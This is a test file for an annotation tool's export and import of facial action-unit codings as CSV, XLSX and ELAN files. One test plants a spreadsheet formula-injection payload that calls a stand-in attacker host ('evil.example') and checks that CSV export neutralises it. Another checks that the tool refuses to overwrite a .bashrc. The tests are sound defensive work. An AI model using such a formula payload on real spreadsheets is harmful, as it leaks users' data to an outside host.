import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { formatAus, parseAus } from '@shared/domain/au'
import { EMPTY_ANNOTATION_FIELDS } from '@shared/domain/annotation'
import { CodingService } from '../../../src/main/services/annotations/coding'
import { exportCodes, importCodes, type CodesFormat } from '../../../src/main/services/annotations/exchange'
import { codesFromCsv } from '../../../src/main/services/annotations/exchange/csv'
import { parseCsv } from '../../../src/main/services/formats/csv'
import { codesFromEaf, codesToEaf } from '../../../src/main/services/annotations/exchange/eaf'
import { annotationFields } from '@shared/domain/annotation'
import type { Project } from '../../../src/main/services/project/project'
import { projectWithSamples, scratchDir } from '../project/project-fixture'
import { runCliCaptured } from '../../helpers/cli'

let cleanups: (() => void)[] = []
afterEach(() => {
  for (const c of cleanups) c()
  cleanups = []
})

function scratch() {
  const s = scratchDir()
  cleanups.push(s.cleanup)
  return s.dir
}

/** Two coders, awkward values (quotes, commas, newlines, "or", missing apex), an adjudication, dataset labels. */
async function codedProject(dir: string) {
  const { project, sampleIds } = await projectWithSamples(dir)
  const coding = new CodingService(project)
  const kim = coding.createAnnotator('Kim', 'coder')
  const lee = coding.createAnnotator('Lee "the second", PhD', 'coder')
  const ada = coding.createAnnotator('Ada', 'adjudicator')
  const [a, b, c] = sampleIds as [number, number, number]
  coding.update(a, kim.id, { onset: 12, apex: 20, offset: 41, aus: parseAus('1+2+R12B').value, emotion: 'surprise', objectiveClass: 'VI', confidence: 0.75, status: 'done', notes: 'brows, then "lip"\nsecond line | notes: tricky' })
  coding.update(a, lee.id, { onset: 13, apex: null, offset: 40, aus: parseAus('R14 or R24').value, emotion: 'others' })
  coding.update(b, kim.id, { onset: 10, apex: 10, offset: 10, aus: parseAus('T17+B24+L4A').value, emotion: 'disgust', notes: '  padded  ' })
  coding.adjudicate(a, ada.id, { accept: project.getAnnotation({ sampleId: a, annotatorId: kim.id, adjudicated: false })!.id })
  const labels = project.transaction(() => project.createAnnotator('CASME II labels', 'dataset'))
  coding.replace({ sampleId: c, annotatorId: labels.id, adjudicated: false }, { ...annotationFields(project.getAnnotation({ sampleId: a, annotatorId: kim.id, adjudicated: false })!), notes: '' }, 'import dataset')
  return { project, coding, sampleIds }
}

/** Every annotation as comparable plain data: (dataset, subject, sample, coder, role, adjudicated) → fields. */
function snapshot(project: Project) {
  const names = new Map(project.listAnnotators().map((a) => [a.id, `${a.name}/${a.role}`]))
  return project
    .allAnnotations()
    .map((a) => {
      const s = project.getSample(a.sampleId)
      return { key: `${s.subject}/${s.name}/${names.get(a.annotatorId)}/${a.adjudicated}`, fields: annotationFields(a) }
    })
    .sort((x, y) => x.key.localeCompare(y.key))
}

describe('codes export/import', () => {
  for (const format of ['csv', 'xlsx', 'eaf'] as CodesFormat[]) {
    it(`round-trips losslessly through ${format}`, async () => {
      const source = await codedProject(scratch())
      const out = join(scratch(), format === 'eaf' ? 'eaf' : `codes.${format}`)
      const written = await exportCodes(source.project, format, out)
      // every coding here has onset and offset, so ELAN can place them all
      expect(written.skipped).toBe(0)
      const target = await projectWithSamples(scratch())
      const result = await importCodes(target.project, new CodingService(target.project), out)
      expect(result.problems).toEqual([])
      expect(result.imported).toBe(5)
      expect(snapshot(target.project)).toEqual(snapshot(source.project))
      // importing the same file again changes nothing
      expect((await importCodes(target.project, new CodingService(target.project), out)).unchanged).toBe(5)
      source.project.close()
      target.project.close()
    })
  }

  it('names a missing source file instead of failing with a system error', async () => {
    const target = await projectWithSamples(scratch())
    const missing = join(scratch(), 'no-such-codes.csv')
    await expect(importCodes(target.project, new CodingService(target.project), missing)).rejects.toMatchObject({
      code: 'not-found',
      message: `No such file or folder: ${missing}`,
    })
    target.project.close()
  })

  it('writes frames and ms in the CSV', async () => {
    const { project } = await codedProject(scratch())
    const out = join(scratch(), 'codes.csv')
    await exportCodes(project, 'csv', out)
    const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'))
    const row = rows.find((r) => r[3] === 'Kim' && r[5] === '0' && r[2] === 'EP01_01')!
    const get = (name: string) => row[header!.indexOf(name)]
    // first frame 10 at 200 fps: onset 12 → 10 ms, apex 20 → 50 ms, offset 41 → 155 ms
    expect([get('onset_frame'), get('onset_ms'), get('apex_ms'), get('offset_ms')]).toEqual(['12', '10', '50', '155'])
    expect(codesFromCsv(readFileSync(out, 'utf8'))).toHaveLength(5)
    project.close()
  })

  it('neutralises formulas in the CSV and reads them back as written', async () => {
    const { project, coding, sampleIds } = await codedProject(scratch())
    const kim = project.listAnnotators().find((a) => a.name === 'Kim')!
    const b = sampleIds[1]
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    coding.update(b!, kim.id, { notes: formula, emotion: '+surprise', objectiveClass: "'@quoted" })
    const out = join(scratch(), 'codes.csv')
    await exportCodes(project, 'csv', out)
    const text = readFileSync(out, 'utf8')
    // No cell starts with a formula character: each such text cell carries a leading '.
    const cells = parseCsv(text).flat()
    expect(cells).toContain(`'${formula}`)
    expect(cells).toContain("'+surprise")
    expect(cells).toContain("''@quoted")
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([])
    const rows = codesFromCsv(text)
    const back = rows.find((r) => r.coder === 'Kim' && r.sample === project.getSample(b!).name && !r.adjudicated)!
    expect([back.fields.notes, back.fields.emotion, back.fields.objectiveClass]).toEqual([formula, '+surprise', "'@quoted"])
    project.close()
  })

  it('writes byte-identical xlsx on re-export', async () => {
    const { project } = await codedProject(scratch())
    const first = join(scratch(), 'first.xlsx')
    const second = join(scratch(), 'second.xlsx')
    // ZIP writers stamp entries with the wall clock: export at two different times.
    vi.useFakeTimers({ toFake: ['Date'] })
    try {
      vi.setSystemTime(new Date('2026-03-01T10:00:00Z'))
      await exportCodes(project, 'xlsx', first)
      vi.setSystemTime(new Date('2027-07-15T18:30:42Z'))
      await exportCodes(project, 'xlsx', second)
    } finally {
      vi.useRealTimers()
    }
    expect(Buffer.compare(readFileSync(first), readFileSync(second))).toBe(0)
    project.close()
  })

  it('never replaces an existing file or fills a non-empty folder unless asked, and writes only the format\'s extension', async () => {
    const { project } = await codedProject(scratch())
    const dir = scratch()
    // The reproduction: a csv export aimed at a dotfile that exists.
    const bashrc = join(dir, '.bashrc')
    writeFileSync(bashrc, 'alias ls="ls --color"\n')
    for (const overwrite of [false, true]) {
      await expect(exportCodes(project, 'csv', bashrc, {}, { overwrite })).rejects.toMatchObject({ code: 'invalid-input', message: expect.stringContaining('writes only .csv files') })
    }
    await expect(exportCodes(project, 'xlsx', join(dir, 'codes.csv'))).rejects.toMatchObject({ code: 'invalid-input' })
    const csv = join(dir, 'codes.csv')
    writeFileSync(csv, 'mine')
    await expect(exportCodes(project, 'csv', csv)).rejects.toMatchObject({ code: 'export/target-exists', message: expect.stringContaining(`${csv} already exists`) })
    expect(readFileSync(csv, 'utf8')).toBe('mine')
    expect((await exportCodes(project, 'csv', csv, {}, { overwrite: true })).rows).toBe(5)
    expect(codesFromCsv(readFileSync(csv, 'utf8'))).toHaveLength(5)
    expect(readFileSync(bashrc, 'utf8')).toBe('alias ls="ls --color"\n')

    const eaf = join(dir, 'eaf')
    mkdirSync(eaf)
    writeFileSync(join(eaf, 'notes.txt'), 'keep')
    await expect(exportCodes(project, 'eaf', eaf)).rejects.toMatchObject({ code: 'export/target-exists', message: expect.stringContaining('is not empty') })
    expect(readdirSync(eaf)).toEqual(['notes.txt'])
    await expect(exportCodes(project, 'eaf', csv)).rejects.toMatchObject({ code: 'invalid-input' })
    expect((await exportCodes(project, 'eaf', eaf, {}, { overwrite: true })).files).toHaveLength(3)
    expect(readdirSync(eaf)).toHaveLength(4)
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([])
    project.close()
  })

  it('me-studio export refuses an existing --out without --force', async () => {
    const { project } = await codedProject(scratch())
    const path = project.path
    project.close()
    const dir = scratch()
    const args = ['export', '--project', path, '--what', 'annotations', '--format', 'csv', '--out', 'codes.csv']
    expect((await runCliCaptured(args, dir)).code).toBe(0)
    const again = await runCliCaptured(args, dir)
    expect(again.code).toBe(1)
    expect(again.stderr).toMatch(/codes\.csv already exists: .*--force.*\[export\/target-exists\]\n$/)
    const forced = await runCliCaptured([...args, '--force'], dir)
    expect(forced.code, forced.stderr).toBe(0)
    expect(forced.stderr).toContain('wrote 5 coding rows')
  })

  it('writes ELAN files with one interval tier per coder, AU and emotion tiers under it, and the apex as its own tier', async () => {
    const { project } = await codedProject(scratch())
    const dir = join(scratch(), 'eaf')
    await exportCodes(project, 'eaf', dir)
    expect(readdirSync(dir).sort()).toEqual(['sub01_EP01_01.eaf', 'sub01_EP02_01.eaf', 'sub01_EP03_01.eaf'])
    const xml = readFileSync(join(dir, 'sub01_EP01_01.eaf'), 'utf8')
    expect(xml).toContain('FORMAT="3.0"')
    expect(xml).toContain('TIME_UNITS="milliseconds"')
    for (const tier of ['Kim', 'Kim apex', 'Lee &quot;the second&quot;, PhD', 'Ada (adjudicated)', 'Ada (adjudicated) apex']) expect(xml).toContain(`TIER_ID="${tier}"`)
    // AUs and emotion on child tiers of the coder's interval tier, the emotion from a controlled vocabulary
    expect(xml).toContain('<TIER TIER_ID="Kim AU" LINGUISTIC_TYPE_REF="me-au" PARENT_REF="Kim"')
    expect(xml).toContain('<TIER TIER_ID="Kim emotion" LINGUISTIC_TYPE_REF="me-emotion" PARENT_REF="Kim"')
    expect(xml).toMatch(/<REF_ANNOTATION ANNOTATION_ID="a2" ANNOTATION_REF="a1">\s*<ANNOTATION_VALUE>1\+2\+R12B<\/ANNOTATION_VALUE>/)
    expect(xml).toMatch(/<REF_ANNOTATION ANNOTATION_ID="a3" ANNOTATION_REF="a1" CVE_REF="(cve\d+)">\s*<ANNOTATION_VALUE>surprise<\/ANNOTATION_VALUE>/)
    const cve = /ANNOTATION_REF="a1" CVE_REF="(cve\d+)"/.exec(xml)![1]
    expect(xml).toContain(`<CV_ENTRY_ML CVE_ID="${cve}"><CVE_VALUE LANG_REF="und">surprise</CVE_VALUE></CV_ENTRY_ML>`)
    expect(xml).toContain('CONTROLLED_VOCABULARY_REF="me-emotion"')
    // EAF 3.0 order after the tiers: types, languages, constraints, vocabularies
    const order = ['<LINGUISTIC_TYPE ', '<LANGUAGE ', '<CONSTRAINT ', '<CONTROLLED_VOCABULARY '].map((tag) => xml.indexOf(tag))
    expect(order).toEqual([...order].sort((x, y) => x - y))
    expect(xml.lastIndexOf('</TIER>')).toBeLessThan(order[0]!)
    // onset 12 → 10 ms; the interval ends after offset frame 41 → (42 − 10)/200 s = 160 ms
    expect(xml).toMatch(/TIME_VALUE="10"/)
    expect(xml).toMatch(/TIME_VALUE="160"/)
    // time slots listed chronologically, ids in the same order
    const slots = [...xml.matchAll(/TIME_SLOT_ID="ts(\d+)" TIME_VALUE="(\d+)"/g)].map((m) => [Number(m[1]), Number(m[2])])
    expect(slots.map(([id]) => id)).toEqual(slots.map((_, i) => i + 1))
    expect(slots.map(([, ms]) => ms)).toEqual(slots.map(([, ms]) => ms).sort((a, b) => a! - b!))
    // the frame numbers stay in the file, beside the ms
    expect(xml).toContain('<ANNOTATION_VALUE>frames: 12–41, apex 20 | class: VI | confidence: 0.75 | status: done | notes: brows')
    project.close()
  })
})

/** A coding sheet shaped like the dataset's own `CASME2-coding-*.xlsx`: subjects as `1`/`01`, a name with a trailing space. */
async function casme2CodingSheet(path: string, rows: (string | number)[][]): Promise<void> {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet('Sheet1')
  sheet.addRow(['Subject', 'Filename', 'OnsetFrame', 'ApexFrame', 'OffsetFrame', 'Action Units', 'Estimated Emotion'])
  for (const row of rows) sheet.addRow(row)
  await workbook.xlsx.writeFile(path)
}

describe("codes import of the dataset's own coding sheet", () => {
  it('finds samples as the dataset importer does (subject 1 / 01 / sub01, trimmed names) and reports the rest', async () => {
    const dir = scratch()
    const { project } = await projectWithSamples(join(dir, 'p'))
    const sheet = join(dir, 'CASME2-coding-20140508.xlsx')
    await casme2CodingSheet(sheet, [
      ['1', 'EP01_01 ', 12, 20, 41, '1+2', 'happiness'],
      ['02', 'EP02_01', 10, 15, 30, 'R12', 'surprise'],
      ['sub01', ' EP03_01', 5, 9, 14, '4', 'disgust'],
      ['9', 'EP09_09', 1, 2, 3, '4', 'others'],
    ])
    const result = await importCodes(project, new CodingService(project), sheet, { coder: 'Second coder' })
    expect(result).toMatchObject({ imported: 3, unchanged: 0, coders: ['Second coder'] })
    expect(result.problems.map((p) => p.message)).toEqual(['no sample 9/EP09_09 in CASME II'])
    const imported = snapshot(project).map((a) => `${a.key} ${a.fields.onset}/${a.fields.apex}/${a.fields.offset}`)
    expect(imported).toEqual([
      'sub01/EP01_01/Second coder/coder/false 12/20/41',
      'sub01/EP03_01/Second coder/coder/false 5/9/14',
      'sub02/EP02_01/Second coder/coder/false 10/15/30',
    ])
  })

  it('refuses a file none of whose rows names a sample, listing the rows, instead of "Imported 0 codings"', async () => {
    const dir = scratch()
    const { project } = await projectWithSamples(join(dir, 'p'))
    const sheet = join(dir, 'other-dataset.xlsx')
    await casme2CodingSheet(sheet, [
      ['17', 'EP01_01', 12, 20, 41, '1+2', 'happiness'],
      ['1', 'EP99_01', 10, 15, 30, 'R12', 'surprise'],
    ])
    await expect(importCodes(project, new CodingService(project), sheet)).rejects.toMatchObject({
      code: 'not-found',
      message: 'Nothing imported: none of the 2 rows names a sample of this project (no sample 17/EP01_01 in CASME II; no sample 1/EP99_01 in CASME II)',
    })
    expect(project.allAnnotations()).toEqual([])
  })
})

describe('ELAN shapes', () => {
  const row = {
    dataset: 'd', subject: 's', sample: 'x', coder: 'Kim', role: 'coder' as const, adjudicated: false, fps: 30, firstFrame: 0,
    fields: { ...EMPTY_ANNOTATION_FIELDS, onset: 3, apex: 7, offset: 12, aus: parseAus('1+2+R12').value, emotion: 'happiness', status: 'done' as const },
  }

  it('links the media file of a video sample', () => {
    const xml = codesToEaf({ dataset: 'd', subject: 's', sample: 'x', fps: 30, firstFrame: 0, mediaPath: '/data/s01/s01_01.mp4' }, [row])
    expect(xml).toContain('<MEDIA_DESCRIPTOR MEDIA_URL="file:///data/s01/s01_01.mp4" MIME_TYPE="video/mp4"/>')
    expect(codesFromEaf(xml).rows.map((r) => r.fields)).toEqual([row.fields])
  })

  it('reads files of the earlier shape (AUs and emotion in the interval value)', () => {
    const earlier = `<?xml version="1.0" encoding="UTF-8"?>
<ANNOTATION_DOCUMENT AUTHOR="ME Studio" DATE="2026-01-01T00:00:00.000Z" FORMAT="3.0" VERSION="3.0">
  <HEADER MEDIA_FILE="" TIME_UNITS="milliseconds">
    <PROPERTY NAME="me-studio:dataset">d</PROPERTY>
    <PROPERTY NAME="me-studio:subject">s</PROPERTY>
    <PROPERTY NAME="me-studio:sample">x</PROPERTY>
    <PROPERTY NAME="me-studio:fps">30</PROPERTY>
    <PROPERTY NAME="me-studio:first-frame">0</PROPERTY>
    <PROPERTY NAME="me-studio:role:Kim">coder</PROPERTY>
  </HEADER>
  <TIME_ORDER>
    <TIME_SLOT TIME_SLOT_ID="ts1" TIME_VALUE="100"/>
    <TIME_SLOT TIME_SLOT_ID="ts2" TIME_VALUE="233"/>
    <TIME_SLOT TIME_SLOT_ID="ts3" TIME_VALUE="267"/>
    <TIME_SLOT TIME_SLOT_ID="ts4" TIME_VALUE="433"/>
  </TIME_ORDER>
  <TIER TIER_ID="Kim" LINGUISTIC_TYPE_REF="me-interval" ANNOTATOR="Kim" PARTICIPANT="s">
    <ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a1" TIME_SLOT_REF1="ts1" TIME_SLOT_REF2="ts4"><ANNOTATION_VALUE>AU: 1+2+R12 | emotion: happiness | status: done</ANNOTATION_VALUE></ALIGNABLE_ANNOTATION></ANNOTATION>
  </TIER>
  <TIER TIER_ID="Kim apex" LINGUISTIC_TYPE_REF="me-apex" ANNOTATOR="Kim" PARTICIPANT="s">
    <ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a2" TIME_SLOT_REF1="ts2" TIME_SLOT_REF2="ts3"><ANNOTATION_VALUE>apex</ANNOTATION_VALUE></ALIGNABLE_ANNOTATION></ANNOTATION>
  </TIER>
</ANNOTATION_DOCUMENT>`
    expect(codesFromEaf(earlier).rows.map((r) => r.fields)).toEqual([row.fields])
  })

  it('takes AUs and emotion edited on their own tiers in ELAN', () => {
    const edited = codesToEaf({ dataset: 'd', subject: 's', sample: 'x', fps: 30, firstFrame: 0 }, [row])
      .replace('<ANNOTATION_VALUE>1+2+R12</ANNOTATION_VALUE>', '<ANNOTATION_VALUE>4+7</ANNOTATION_VALUE>')
      .replace('<ANNOTATION_VALUE>happiness</ANNOTATION_VALUE>', '<ANNOTATION_VALUE>disgust</ANNOTATION_VALUE>')
    const [back] = codesFromEaf(edited).rows
    expect(formatAus(back!.fields.aus)).toBe('4+7')
    expect(back!.fields.emotion).toBe('disgust')
  })
})

describe('ELAN timing', () => {
  it('maps frames to ms and back exactly at any dataset frame rate (property)', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(25, 29.97, 30, 60, 100, 200, 500),
        fc.integer({ min: 0, max: 5000 }),
        fc.tuple(fc.integer({ min: 0, max: 3000 }), fc.integer({ min: 0, max: 3000 }), fc.integer({ min: 0, max: 3000 })),
        (fps, firstFrame, offsets) => {
          const [onset, apex, offset] = [...offsets].sort((a, b) => a - b).map((o) => firstFrame + o) as [number, number, number]
          const row = {
            dataset: 'd',
            subject: 's',
            sample: 'x',
            coder: 'Kim',
            role: 'coder' as const,
            adjudicated: false,
            fps,
            firstFrame,
            fields: { ...EMPTY_ANNOTATION_FIELDS, onset, apex, offset },
          }
          const back = codesFromEaf(codesToEaf({ dataset: 'd', subject: 's', sample: 'x', fps, firstFrame }, [row])).rows
          expect(back.map((r) => [r.fields.onset, r.fields.apex, r.fields.offset])).toEqual([[onset, apex, offset]])
        },
      ),
      { numRuns: 300 },
    )
  })
})
